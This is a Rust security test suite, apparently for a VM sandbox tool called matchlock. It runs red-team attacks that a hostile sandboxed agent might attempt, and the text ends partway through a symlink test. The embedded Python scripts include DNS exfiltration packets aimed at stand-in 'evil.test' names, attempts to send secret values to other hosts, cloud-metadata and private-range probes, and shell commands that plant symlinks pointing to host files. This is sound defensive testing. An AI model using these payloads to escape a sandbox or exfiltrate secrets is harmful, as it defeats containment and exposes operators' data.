//! The red team: the attacks a hostile agent inside a sandbox (or a hostile earlier run) would
//! try, each against the real `matchlock` binary booting real VMs.
//!
//! The whole run happens in a network namespace this program creates. Canary listeners sit on
//! the addresses a sandbox must never reach (private ranges, link-local metadata, CGNAT, the
//! host's loopback behind the gateway), on a DNS resolver and on HTTP upstreams; an attack has
//! leaked when a canary saw its marker, a secret's value, a changed host file, or a process
//! outlived what it should. Every attack also carries a control (a variant that must get
//! through, or must be seen), so a broken canary fails the run instead of passing it.
//!
//! It has its own `main` (no libtest) so that the namespace is entered before any thread exists,
//! and so the figures can be printed once at the end: attacks tried, blocked, leaked
//! (recorded in docs/security.md). Needs root (namespaces, canaries on privileged ports).
//! `cargo test --test security [NAME...]` runs all attacks or those whose name contains NAME.

#[path = "common/mod.rs"]
mod common;

use common::*;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Addresses the canaries listen on inside the namespace. A sandbox reaches none of them
/// unless a test opens one with `--allow-private-host` (only [`OPENED`]).
const BLOCKED: &[&str] = &[
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
    "169.254.169.254",
    "100.64.0.1",
];
/// The canary resolver (operator-chosen with `--dns-servers`, so reachable for DNS only).
const RESOLVER: &str = "10.53.0.53";
/// An upstream a test opens on purpose: the control that proves the canaries see traffic.
const OPENED: &str = "10.9.9.9";
/// A second opened upstream that echoes what it was sent back in every way a response can.
const ECHO: &str = "10.9.9.10";
/// The host-loopback port a guest might try to reach through its gateway.
const LOOPBACK_PORT: u16 = 18080;

/// What the canaries saw: (where, bytes).
type Hits = Arc<Mutex<Vec<(String, Vec<u8>)>>>;

/// One line of the figures.
struct Row {
    attack: String,
    /// Variants tried.
    tried: usize,
    /// What got through, one line per variant (a variant may name several findings, all
    /// shown; the count is of variants).
    leaked: Vec<String>,
}

impl Row {
    fn leaked(&self) -> usize {
        self.leaked.len().min(self.tried)
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.iter().any(|a| a == "--list") {
        for (name, _) in ATTACKS {
            println!("{name}: test");
        }
        return;
    }
    let filters: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("red team: needs root (it creates a network namespace and canaries)");
        std::process::exit(1);
    }
    enter_namespace();
    let hits: Hits = Arc::default();
    start_canaries(&hits);
    let started = Instant::now();
    let mut rows = Vec::new();
    let mut broken = Vec::new();
    for (name, attack) in ATTACKS {
        if !filters.is_empty() && !filters.iter().any(|f| name.contains(f.as_str())) {
            continue;
        }
        eprintln!("red team: {name} ...");
        let t = Instant::now();
        match std::panic::catch_unwind(|| attack(&hits)) {
            Ok(r) => {
                for row in &r {
                    eprintln!(
                        "red team: {name}: {} {} tried, {} leaked ({:.1} s)",
                        row.attack,
                        row.tried,
                        row.leaked.len(),
                        t.elapsed().as_secs_f64()
                    );
                }
                rows.extend(r);
            }
            Err(_) => broken.push(*name),
        }
    }
    print_figures(&rows, started.elapsed());
    let leaked: usize = rows.iter().map(Row::leaked).sum();
    if leaked > 0 || !broken.is_empty() {
        if !broken.is_empty() {
            println!("attacks that could not be judged (their control failed): {broken:?}");
        }
        std::process::exit(1);
    }
}

fn print_figures(rows: &[Row], took: Duration) {
    println!();
    println!(
        "{:<44} {:>6} {:>8} {:>7}",
        "attack", "tried", "blocked", "leaked"
    );
    for r in rows {
        println!(
            "{:<44} {:>6} {:>8} {:>7}",
            r.attack,
            r.tried,
            r.tried - r.leaked(),
            r.leaked()
        );
        for l in &r.leaked {
            println!("    LEAKED: {l}");
        }
    }
    let tried: usize = rows.iter().map(|r| r.tried).sum();
    let leaked: usize = rows.iter().map(Row::leaked).sum();
    println!(
        "red team: {} attacks, {tried} variants tried, {} blocked, {leaked} leaked ({:.0} s)",
        rows.len(),
        tried - leaked,
        took.as_secs_f64()
    );
}

/// Moves this (still single-threaded) process into a fresh network namespace whose loopback
/// holds every canary address: nothing sent here can leave it.
fn enter_namespace() {
    // SAFETY: unshare has no memory-safety preconditions; no other thread exists yet.
    if unsafe { libc::unshare(libc::CLONE_NEWNET) } != 0 {
        panic!("unshare(CLONE_NEWNET): {}", std::io::Error::last_os_error());
    }
    let ip = |args: &[&str]| {
        let st = std::process::Command::new("ip").args(args).status();
        assert!(
            st.as_ref().is_ok_and(|s| s.success()),
            "ip {args:?}: {st:?} (iproute2 is needed)"
        );
    };
    ip(&["link", "set", "lo", "up"]);
    // On the namespace's own loopback: no module needed, and nothing routes anywhere else.
    for a in BLOCKED.iter().chain(&[RESOLVER, OPENED, ECHO]) {
        ip(&["addr", "add", &format!("{a}/32"), "dev", "lo"]);
    }
}

/// TCP canaries on every blocked address (80, 443, 22) and the host's loopback, UDP canaries
/// (53, 123) on the blocked addresses, the DNS canary and the two opened HTTP upstreams.
fn start_canaries(hits: &Hits) {
    for a in BLOCKED {
        for port in [80, 443, 22] {
            tcp_canary(format!("{a}:{port}").parse().unwrap(), hits, None);
        }
        for port in [53, 123] {
            udp_canary(format!("{a}:{port}").parse().unwrap(), hits);
        }
    }
    tcp_canary(
        format!("127.0.0.1:{LOOPBACK_PORT}").parse().unwrap(),
        hits,
        None,
    );
    dns_canary(hits);
    tcp_canary(format!("{OPENED}:80").parse().unwrap(), hits, None);
    tcp_canary(
        format!("{ECHO}:80").parse().unwrap(),
        hits,
        Some(echo_response),
    );
}

/// Accepts on `addr`, records the first bytes of each connection, answers with `respond`
/// (or a plain 200).
/// Builds an upstream's answer from the request it got.
type Responder = fn(&[u8]) -> Vec<u8>;

fn tcp_canary(addr: SocketAddr, hits: &Hits, respond: Option<Responder>) {
    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("canary {addr}: {e}"));
    let hits = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            let hits = hits.clone();
            std::thread::spawn(move || {
                let mut c = c;
                let _ = c.set_read_timeout(Some(Duration::from_millis(700)));
                // Request after request on one connection (keep-alive), so that a second
                // request smuggled behind an approved one is seen too.
                loop {
                    let mut got = Vec::new();
                    let mut buf = [0u8; 8192];
                    while let Ok(n) = c.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        got.extend_from_slice(&buf[..n]);
                        if complete_request(&got) {
                            break;
                        }
                    }
                    if got.is_empty() {
                        break;
                    }
                    hits.lock().unwrap().push((addr.to_string(), got.clone()));
                    let resp = match respond {
                        Some(f) => f(&got),
                        None => b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\ncanary\n".to_vec(),
                    };
                    if c.write_all(&resp).is_err() || respond.is_some() {
                        break;
                    }
                }
            });
        }
    });
}

/// Whether `got` holds a whole HTTP request (head, and a Content-Length body if any).
fn complete_request(got: &[u8]) -> bool {
    let text = String::from_utf8_lossy(got);
    let Some(end) = text.find("\r\n\r\n") else {
        return false;
    };
    let len = text[..end]
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse::<usize>().ok())?
        })
        .unwrap_or(0);
    if text[..end]
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        return text.ends_with("0\r\n\r\n");
    }
    got.len() >= end + 4 + len
}

fn udp_canary(addr: SocketAddr, hits: &Hits) {
    let s = UdpSocket::bind(addr).unwrap_or_else(|e| panic!("canary {addr}: {e}"));
    let hits = hits.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok((n, _)) = s.recv_from(&mut buf) {
            hits.lock()
                .unwrap()
                .push((addr.to_string(), buf[..n].to_vec()));
        }
    });
}

/// A resolver that records every datagram and answers A queries with a blocked address (so a
/// name it answers is also a DNS-rebinding attempt).
fn dns_canary(hits: &Hits) {
    let addr: SocketAddr = format!("{RESOLVER}:53").parse().unwrap();
    let s = UdpSocket::bind(addr).unwrap();
    let hits = hits.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok((n, from)) = s.recv_from(&mut buf) {
            let q = buf[..n].to_vec();
            hits.lock().unwrap().push((addr.to_string(), q.clone()));
            if n < 12 {
                continue;
            }
            // Echo the question, set QR/RA, one A answer (10.0.0.1) by a pointer to it.
            let mut r = q[..12].to_vec();
            r[2] |= 0x80;
            r[3] = 0x80;
            r[6..12].copy_from_slice(&[0, 1, 0, 0, 0, 0]);
            let mut i = 12;
            while i < n && q[i] != 0 {
                i += q[i] as usize + 1;
            }
            let end = (i + 5).min(n);
            r.extend_from_slice(&q[12..end]);
            r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4, 10, 0, 0, 1]);
            let _ = s.send_to(&r, from);
        }
    });
}

/// The echo upstream's answers: the `Authorization` it got, back in the reason phrase, a
/// header, trailers, a gzip or deflate body, a plain body, or under a coding matchlock cannot
/// decode.
fn echo_response(req: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(req);
    let path = text.split(' ').nth(1).unwrap_or("/").to_string();
    let auth = text
        .lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("authorization")
                .then(|| v.trim().to_string())
        })
        .unwrap_or_default();
    let with_body = |headers: &str, body: &[u8]| {
        let mut r = format!(
            "HTTP/1.1 200 OK\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes();
        r.extend_from_slice(body);
        r
    };
    let compress = |deflate: bool| {
        let data = format!("echo {auth}");
        if deflate {
            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data.as_bytes()).unwrap();
            e.finish().unwrap()
        } else {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data.as_bytes()).unwrap();
            e.finish().unwrap()
        }
    };
    match path.as_str() {
        "/reason" => {
            format!("HTTP/1.1 200 {auth}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                .into_bytes()
        }
        "/header" => with_body(&format!("X-Echo: {auth}\r\n"), b"ok"),
        "/trailers" => format!(
            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\
             Connection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: {auth}\r\n\r\n"
        )
        .into_bytes(),
        "/gzip" => with_body("Content-Encoding: gzip\r\n", &compress(false)),
        "/deflate" => with_body("Content-Encoding: deflate\r\n", &compress(true)),
        "/br" => with_body(
            "Content-Encoding: br\r\n",
            format!("echo {auth}").as_bytes(),
        ),
        _ => with_body("", format!("echo {auth}").as_bytes()),
    }
}

/// The canary hits that contain `needle` (case-insensitive), as "where: first bytes".
fn hits_with(hits: &Hits, needle: &str) -> Vec<String> {
    let needle = needle.to_ascii_lowercase();
    hits.lock()
        .unwrap()
        .iter()
        .filter(|(_, b)| {
            String::from_utf8_lossy(b)
                .to_ascii_lowercase()
                .contains(&needle)
        })
        .map(|(w, b)| format!("{w}: {:?}", String::from_utf8_lossy(&b[..b.len().min(120)])))
        .collect()
}

/// Runs `python3 -c` [`PY_PRELUDE`] + `script` in a fresh sandbox with `flags`; returns its
/// stdout (asserting it ran: a script that never ran would make every attack look blocked).
fn python(flags: &[&str], script: &str) -> String {
    let mut args = vec!["run", "--image", python_image()];
    args.extend_from_slice(flags);
    let script = format!("{PY_PRELUDE}{script}");
    args.extend_from_slice(&["--", "python3", "-c", &script]);
    let out = run(&args);
    let text = stdout(&out);
    assert!(
        out.status.success() && text.contains("SCRIPT-DONE"),
        "the attack script did not run: {:?}\nstdout: {text}\nstderr: {}",
        out.status,
        stderr(&out)
    );
    text
}

// ---------------------------------------------------------------------------------------------
// The attacks.

type Attack = fn(&Hits) -> Vec<Row>;

const ATTACKS: &[(&str, Attack)] = &[
    ("egress", egress),
    ("dns_exfiltration", dns_exfiltration),
    ("secrets_on_the_wire", secrets_on_the_wire),
    ("secrets_in_process_state", secrets_in_process_state),
    (
        "workspace_symlinks_across_runs",
        workspace_symlinks_across_runs,
    ),
    ("set_id_bits_and_owners", set_id_bits_and_owners),
    ("devices_and_kernel_log", devices_and_kernel_log),
    ("http_host_confusion", http_host_confusion),
    ("rpc_malformed_input", rpc_malformed_input),
    ("cpu_share", cpu_share),
    ("broken_pipe", broken_pipe),
    ("host_side_leftovers", host_side_leftovers),
    (
        "revocation_on_live_connections",
        revocation_on_live_connections,
    ),
    ("guest_floods", guest_floods),
    ("crafted_image_layers", crafted_image_layers),
    ("killed_components", killed_components),
    ("ssh_egress_abuse", ssh_egress_abuse),
    ("ingress_routes_file_abuse", ingress_routes_file_abuse),
    ("hostile_build_context", hostile_build_context),
];

/// What every attack script starts with: the guest's gateway, and `exchange(ip, raw, wait)`,
/// which writes raw bytes to port 80 and returns all that comes back until the peer closes or
/// stays silent for `wait` seconds.
const PY_PRELUDE: &str = r#"
import socket, struct
gw = None
for line in open('/proc/net/route').read().splitlines()[1:]:
    f = line.split()
    if f[1] == '00000000':
        gw = socket.inet_ntoa(struct.pack('<L', int(f[2], 16)))
def exchange(ip, raw, wait):
    s = socket.create_connection((ip, 80), timeout=10)
    s.sendall(raw if isinstance(raw, bytes) else raw.encode())
    s.settimeout(wait)
    data = b''
    while True:
        try:
            c = s.recv(65536)
        except Exception:
            break
        if not c:
            break
        data += c
    return data.decode(errors='replace')
"#;

/// Connects (TCP) or sends (UDP) a marker to each target, in parallel; targets are
/// `[proto, host, port, marker]`, host `GW` being the guest's gateway.
const PROBE: &str = r#"
import json, threading
out = {}
def probe(proto, host, port, marker):
    host = gw if host == 'GW' else host
    try:
        if proto == 'udp':
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(marker.encode(), (host, port))
            out[marker] = 'sent'
            return
        s = socket.create_connection((host, port), timeout=4)
        s.sendall(('GET /' + marker + ' HTTP/1.1\r\nHost: ' + host + '\r\nX-M: ' + marker + '\r\n\r\n').encode())
        s.settimeout(4)
        out[marker] = s.recv(200).decode(errors='replace')
    except Exception as e:
        out[marker] = repr(e)
ts = [threading.Thread(target=probe, args=t) for t in json.loads('@@TARGETS@@')]
[t.start() for t in ts]
[t.join() for t in ts]
print(json.dumps(out))
print('SCRIPT-DONE')
"#;

/// Reaching what the policy blocks: every private range, link-local metadata, CGNAT and the
/// host's loopback behind the gateway, by TCP and UDP, with and without interception, and
/// through a resolver that answers with a blocked address (DNS rebinding).
fn egress(hits: &Hits) -> Vec<Row> {
    let mut rows = Vec::new();
    for (mode, flags) in [
        ("default", vec!["--allow-private-host", OPENED]),
        (
            "intercepting",
            vec![
                "--allow-host",
                "open.test,*.rebind.test",
                "--add-host",
                "open.test:10.9.9.9",
                "--allow-private-host",
                OPENED,
                "--dns-servers",
                RESOLVER,
            ],
        ),
    ] {
        let mut targets = Vec::new();
        let mut n = 0;
        let mut mark =
            |t: &mut Vec<(String, String, u16, String)>, proto: &str, host: &str, port| {
                n += 1;
                let m = format!("mlrt-egress-{mode}-{n:03}");
                t.push((proto.to_string(), host.to_string(), port, m.clone()));
                m
            };
        for a in BLOCKED {
            for port in [80, 443, 22] {
                mark(&mut targets, "tcp", a, port);
            }
            mark(&mut targets, "udp", a, 53);
            mark(&mut targets, "udp", a, 123);
        }
        mark(&mut targets, "tcp", "GW", LOOPBACK_PORT);
        // A name the canary resolver answers with 10.0.0.1 (rebinding), then the address.
        if mode == "intercepting" {
            mark(&mut targets, "tcp", "x.rebind.test", 80);
        }
        // The control: the opened upstream, by the name interception allows.
        let opened = if mode == "intercepting" {
            "open.test"
        } else {
            OPENED
        };
        let control = mark(&mut targets, "tcp", opened, 80);
        let json = serde_json::to_string(
            &targets
                .iter()
                .map(|(p, h, port, m)| serde_json::json!([p, h, port, m]))
                .collect::<Vec<_>>(),
        )
        .unwrap();
        let out = python(&flags, &PROBE.replace("@@TARGETS@@", &json));
        std::thread::sleep(Duration::from_millis(800));
        assert!(
            !hits_with(hits, &control).is_empty(),
            "egress {mode}: the control never reached its canary: {out}"
        );
        let mut leaked = Vec::new();
        for (_, h, port, m) in &targets {
            if *m != control {
                leaked.extend(
                    hits_with(hits, m)
                        .into_iter()
                        .map(|x| format!("{h}:{port} {x}")),
                );
            }
        }
        leaked.dedup_by(|a, b| a.split(' ').next() == b.split(' ').next());
        rows.push(Row {
            attack: format!("egress to blocked addresses ({mode})"),
            tried: targets.len() - 1,
            leaked,
        });
    }
    rows
}

/// Raw DNS packets the guest builds itself, each smuggling a marker somewhere the one checked
/// question is not.
/// Python that builds raw DNS packets, for the DNS attack scripts.
const DNS_PACKETS: &str = r#"
import json, random, socket, struct
def name(n):
    return b''.join(bytes([len(p)]) + p.encode() for p in n.split('.')) + b'\0'
def packet(flags=0x0100, qs=(), an=(), ns=(), ar=()):
    h = struct.pack('>HHHHHH', random.randrange(65536), flags, len(qs), len(an), len(ns), len(ar))
    return h + b''.join(qs) + b''.join(an) + b''.join(ns) + b''.join(ar)
def q(n, t=1):
    return name(n) + struct.pack('>HH', t, 1)
def rr(n, t=1, data=b'\x01\x02\x03\x04'):
    return name(n) + struct.pack('>HHIH', t, 1, 30, len(data)) + data
def opt(code, data):
    o = struct.pack('>HH', code, len(data)) + data
    return b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(o)) + o
def ask(dest, p):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(4)
    s.sendto(p, (dest, 53))
    try:
        r = s.recv(2048)
        return 'rcode %d' % (r[3] & 15)
    except Exception as e:
        return repr(e)
"#;

const DNS_ATTACK: &str = r#"
M = '@@M@@'
attacks = {
    'control': packet(qs=[q('control-@@M@@.open.test')]),
    'second question': packet(qs=[q('open.test'), q(M + '-q2.evil.test')]),
    'answer record': packet(qs=[q('open.test')], an=[rr(M + '-an.evil.test')]),
    'authority record': packet(qs=[q('open.test')], ns=[rr(M + '-ns.evil.test')]),
    'additional record': packet(qs=[q('open.test')], ar=[rr(M + '-ar.evil.test')]),
    'EDNS option': packet(qs=[q('open.test')], ar=[opt(65001, (M + '-opt').encode())]),
    'UPDATE opcode': packet(flags=0x2800, qs=[q('open.test', 6)], ns=[rr(M + '-upd.open.test')]),
    'NOTIFY opcode': packet(flags=0x2000, qs=[q(M + '-notify.open.test', 6)]),
    'name off the list': packet(qs=[q(M + '-off.evil.test')]),
    'subdomain of an allowed host': packet(qs=[q(M + '-sub.exact.test', 16)]),
    'zone transfer': packet(qs=[q(M + '-axfr.open.test', 252)]),
    'CHAOS class': packet(qs=[name(M + '-ch.open.test') + struct.pack('>HH', 16, 3)]),
    'trailing bytes': packet(qs=[q('open.test')]) + (M + '-trail').encode(),
}
out = {what: ask(gw, p) for what, p in attacks.items()}
print(json.dumps(out))
print('SCRIPT-DONE')
"#;

/// A query sent straight to a resolver the guest may reach, carrying the marker where the
/// checked question never does; the control goes to the gateway.
const DNS_ELSEWHERE: &str = r#"
M = '@@M@@'
out = {
    'control': ask(gw, packet(qs=[q('control-' + M + '.open.test')])),
    'another server': ask('@@R@@', packet(qs=[q('open.test')], ar=[rr(M + '-srv.evil.test')])),
}
print(json.dumps(out))
print('SCRIPT-DONE')
"#;

/// DNS exfiltration while intercepting: the resolver may only ever see a query matchlock built.
fn dns_exfiltration(hits: &Hits) -> Vec<Row> {
    let marker = "mlrtdnsx";
    let out = python(
        &[
            "--allow-host",
            "*.open.test,open.test,exact.test",
            "--dns-servers",
            RESOLVER,
        ],
        &format!("{DNS_PACKETS}{DNS_ATTACK}").replace("@@M@@", marker),
    );
    std::thread::sleep(Duration::from_millis(800));
    let seen = hits_with(hits, marker);
    let control: Vec<_> = seen.iter().filter(|h| h.contains("control-")).collect();
    assert!(
        !control.is_empty(),
        "dns: the control query never reached the resolver: {out}"
    );
    let leaked: Vec<String> = seen
        .iter()
        .filter(|h| !h.contains("control-"))
        .cloned()
        .collect();
    let mut rows = vec![Row {
        attack: "DNS exfiltration past the checked question".into(),
        tried: 12,
        leaked,
    }];

    // Not intercepting, with the resolver's own address opened to the guest: a raw query sent
    // straight to it is still answered by matchlock (the default, trusted DNS mode), never
    // relayed, so what it carries beyond the checked question does not arrive.
    let marker = "mlrtdnsy";
    let out = python(
        &["--dns-servers", RESOLVER, "--allow-private-host", RESOLVER],
        &format!("{DNS_PACKETS}{DNS_ELSEWHERE}")
            .replace("@@M@@", marker)
            .replace("@@R@@", RESOLVER),
    );
    std::thread::sleep(Duration::from_millis(800));
    let seen = hits_with(hits, marker);
    assert!(
        seen.iter().any(|h| h.contains("control-")),
        "dns: the control query never reached the resolver: {out}"
    );
    rows.push(Row {
        attack: "a DNS query sent straight to another server".into(),
        tried: 1,
        leaked: seen
            .into_iter()
            .filter(|h| !h.contains("control-"))
            .collect(),
    });
    rows
}

/// The secrets attack script: requests that try to get a secret out in clear text or to the
/// wrong host, then responses that try to bring the real value back into the guest.
const SECRET_ATTACK: &str = r#"
import base64, json, os
K, H = os.environ['K'], os.environ['H']
def get(host, path, headers='', body=None, chunks=None):
    req = 'GET ' + path + ' HTTP/1.1\r\nHost: ' + host + '\r\nConnection: close\r\n' + headers
    if body is not None:
        req = req.replace('GET', 'POST', 1) + 'Content-Length: %d\r\n\r\n' % len(body) + body
    elif chunks is not None:
        req = req.replace('GET', 'POST', 1) + 'Transfer-Encoding: chunked\r\n\r\n'
        req += ''.join('%x\r\n%s\r\n' % (len(c), c) for c in chunks) + '0\r\n\r\n'
    else:
        req += '\r\n'
    return exchange(socket.gethostbyname(host), req, 10)
out = {'K': K, 'H': H}
basic = base64.b64encode(('user:' + K).encode()).decode()
out['control'] = get('api.test', '/control', 'Authorization: Bearer ' + H + '\r\n')
out['cleartext header'] = get('api.test', '/clear', 'Authorization: Bearer ' + K + '\r\n')
out['cleartext query'] = get('api.test', '/clear?key=' + K)
out['other host header'] = get('other.test', '/h', 'X-Key: ' + K + '\r\n')
out['other host basic'] = get('other.test', '/b', 'Authorization: Basic ' + basic + '\r\n')
out['other host query'] = get('other.test', '/q?k=' + K)
out['other host path'] = get('other.test', '/p/' + K)
out['other host body'] = get('other.test', '/body', body='{"k": "' + K + '"}')
out['other host chunked body'] = get('other.test', '/chunked', chunks=['x' * 10 + K[:9], K[9:] + 'y'])
out['other host http secret'] = get('other.test', '/hb', body='{"k": "' + H + '"}')
hb = base64.b64encode(('user:' + H).encode()).decode()
for path in ['/reason', '/header', '/trailers', '/gzip', '/deflate', '/plain', '/br']:
    out['echo ' + path] = get('echo.test', path, 'Authorization: Bearer ' + H + '\r\nTE: trailers\r\nAccept-Encoding: gzip, deflate, br\r\n')
out['echo basic'] = get('echo.test', '/plain', 'Authorization: Basic ' + hb + '\r\n')
print(json.dumps(out))
print('SCRIPT-DONE')
"#;

/// The real secret leaving where it must not (clear text, other hosts, anywhere in a request)
/// and coming back into the guest (reason phrase, headers, trailers, compressed bodies, the
/// base64 credential the proxy built).
fn secrets_on_the_wire(hits: &Hits) -> Vec<Row> {
    const K: &str = "mlrt-real-k-3141592653";
    const H: &str = "mlrt-real-h-2718281828";
    let k = format!("K={K}@api.test");
    let h = format!("H={H}@api.test,echo.test");
    let out = python(
        &[
            "--allow-host",
            "api.test,other.test,echo.test",
            "--add-host",
            "api.test:10.9.9.9",
            "--add-host",
            "other.test:10.9.9.9",
            "--add-host",
            "echo.test:10.9.9.10",
            "--allow-private-host",
            OPENED,
            "--allow-private-host",
            ECHO,
            "--secret",
            &k,
            "--secret",
            &h,
            "--secret-over-http",
            "H",
        ],
        SECRET_ATTACK,
    );
    std::thread::sleep(Duration::from_millis(500));
    let v: serde_json::Value = serde_json::from_str(out.lines().next().unwrap_or("")).unwrap();
    let (k_ph, h_ph) = (v["K"].as_str().unwrap(), v["H"].as_str().unwrap());
    assert!(k_ph.starts_with("SANDBOX_SECRET_") && h_ph.starts_with("SANDBOX_SECRET_"));
    // The control: H (allowed in clear text to api.test) reached it as the real value.
    let control = hits_with(hits, "GET /control");
    assert!(
        control.iter().any(|c| c.contains(H)),
        "secrets: the control injection never arrived: {control:?}\n{out}"
    );
    let requests = hits.lock().unwrap().clone();
    let mut out_leaks = Vec::new();
    let outgoing = [
        "cleartext header",
        "cleartext query",
        "other host header",
        "other host basic",
        "other host query",
        "other host path",
        "other host body",
        "other host chunked body",
        "other host http secret",
    ];
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let k_basic = b64.encode(format!("user:{K}"));
    let kph_basic = b64.encode(format!("user:{k_ph}"));
    for (w, bytes) in &requests {
        let text = String::from_utf8_lossy(bytes);
        let to_other = text.to_ascii_lowercase().contains("host: other.test");
        let carries_k = [K, k_ph, &k_basic, &kph_basic]
            .iter()
            .any(|n| text.contains(n));
        let carries_h_elsewhere = to_other && (text.contains(H) || text.contains(h_ph));
        if carries_k || carries_h_elsewhere {
            out_leaks.push(format!("{w}: {}", &text[..text.len().min(160)]));
        }
    }
    for what in &outgoing[..2] {
        let answer = v[what].as_str().unwrap_or("");
        if !answer.starts_with("HTTP/1.1 403") {
            out_leaks.push(format!("{what}: not refused: {answer}"));
        }
    }
    let mut back_leaks = Vec::new();
    let h_basic = b64.encode(format!("user:{H}"));
    let echoes: Vec<&str> = v
        .as_object()
        .unwrap()
        .keys()
        .filter(|k| k.starts_with("echo"))
        .map(|k| k.as_str())
        .collect();
    for what in &echoes {
        let answer = v[what].as_str().unwrap_or("");
        if answer.contains(H) || answer.contains(&h_basic) {
            back_leaks.push(format!("{what}: {answer}"));
        }
        if *what == "echo /br" && !answer.starts_with("HTTP/1.1 502") {
            back_leaks.push(format!(
                "{what}: an undecodable body was passed on: {answer}"
            ));
        }
    }
    // Scrubbed, not dropped: the placeholder comes back where the value was.
    let gz = v["echo /gzip"].as_str().unwrap_or("");
    assert!(gz.contains(&format!("echo Bearer {h_ph}")), "gzip: {gz}");
    vec![
        Row {
            attack: "secret out in clear text or to another host".into(),
            tried: outgoing.len(),
            leaked: out_leaks,
        },
        Row {
            attack: "real secret back into the guest".into(),
            tried: echoes.len(),
            leaked: back_leaks,
        },
    ]
}

/// Secrets in process state: a detached sandbox's supervisor and QEMU must hold no value in
/// their environment or arguments, whichever way the value was given.
fn secrets_in_process_state(_: &Hits) -> Vec<Row> {
    const FROM_ENV: &str = "mlrt-env-value-1618033988";
    const FROM_FILE: &str = "mlrt-file-value-1414213562";
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("secrets.env");
    std::fs::write(&file, format!("# test\nFILE_KEY={FROM_FILE}\n")).unwrap();
    let out = ml(&[
        "run",
        "-d",
        "--image",
        BUSYBOX,
        "--allow-host",
        "api.test",
        "--secret",
        "ENV_KEY@api.test",
        "--secret-file",
        file.to_str().unwrap(),
        "--secret",
        "FILE_KEY@api.test",
        "--",
        "sleep",
        "600",
    ])
    .env("ENV_KEY", FROM_ENV)
    .output()
    .unwrap();
    let id = ok(out).trim().to_string();
    let me = std::process::id().to_string();
    let mut leaked = Vec::new();
    let mut seen_sandbox = 0;
    for ent in std::fs::read_dir("/proc").unwrap().flatten() {
        let pid = ent.file_name().to_string_lossy().to_string();
        if pid.parse::<u32>().is_err() || pid == me {
            continue;
        }
        let cmdline = std::fs::read(ent.path().join("cmdline")).unwrap_or_default();
        let environ = std::fs::read(ent.path().join("environ")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains(&id) {
            seen_sandbox += 1;
        }
        for (what, blob) in [("cmdline", &cmdline), ("environ", &environ)] {
            let text = String::from_utf8_lossy(blob);
            for v in [FROM_ENV, FROM_FILE] {
                if text.contains(v) {
                    leaked.push(format!("pid {pid} {what} holds {v}"));
                }
            }
        }
    }
    let _ = run(&["kill", &id]);
    let _ = run(&["rm", &id]);
    assert!(
        seen_sandbox >= 2,
        "process state: found {seen_sandbox} processes of {id}"
    );
    vec![Row {
        attack: "secret values in /proc environ and cmdline".into(),
        tried: 4,
        leaked,
    }]
}

/// A guest that had `ws/` mounted plants symlinks there; later runs name paths inside `ws/`
/// as mount or disk sources (the README's pattern) and must not follow them out.
fn workspace_symlinks_across_runs(_: &Hits) -> Vec<Row> {
    let root = tempfile::tempdir().unwrap();
    let ws = root.path().join("ws");
    let outside = root.path().join("outside");
    std::fs::create_dir_all(ws.join("data")).unwrap();
    std::fs::create_dir_all(ws.join("sub/inner")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(ws.join("cfg.json"), "{}").unwrap();
    std::fs::write(outside.join("host-secret"), "host only\n").unwrap();
    // An ext4 image outside ws that a planted `ws/disk.img` link would attach read-write.
    let img = outside.join("other.img");
    std::fs::File::create(&img)
        .unwrap()
        .set_len(32 << 20)
        .unwrap();
    let st = std::process::Command::new("mkfs.ext4")
        .args(["-q", "-F"])
        .arg(&img)
        .status()
        .unwrap();
    assert!(st.success());
    let o = outside.display().to_string();
    let plant = format!(
        "set -e; cd /w; rm -rf data sub; ln -s {o} data; ln -sf {o}/host-secret cfg.json; \
         ln -s {o} sub; ln -s {o}/other.img disk.img; echo PLANTED"
    );
    let spec = format!("{}:/w:host_fs", ws.display());
    let first = run(&[
        "run", "--image", BUSYBOX, "-v", &spec, "--", "sh", "-c", &plant,
    ]);
    assert!(stdout(&first).contains("PLANTED"), "{}", stderr(&first));
    let w = ws.display().to_string();
    let later: Vec<Vec<String>> = vec![
        vec!["-v".into(), format!("{w}/data:/data:host_fs")],
        vec!["-v".into(), format!("{w}/cfg.json:/cfg.json:ro")],
        vec!["-v".into(), format!("{w}/sub/inner:/x:host_fs")],
        vec!["-v".into(), format!("{w}/data:/data")],
        vec!["--disk".into(), format!("{w}/disk.img:/mnt")],
    ];
